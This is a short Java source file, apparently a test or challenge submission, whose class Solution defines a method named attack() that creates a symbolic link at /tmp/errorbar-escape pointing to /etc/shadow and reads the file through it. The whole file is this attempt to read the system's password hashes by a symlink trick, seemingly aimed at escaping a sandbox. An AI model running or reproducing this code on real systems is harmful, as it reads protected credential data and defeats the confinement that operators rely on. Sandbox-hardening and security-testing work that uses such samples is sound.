import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;

class Solution {
    static String attack() throws IOException {
        Path link = Path.of("/tmp/errorbar-escape");
        Files.createSymbolicLink(link, Path.of("/etc/shadow"));
        return Files.readString(link);
    }
}
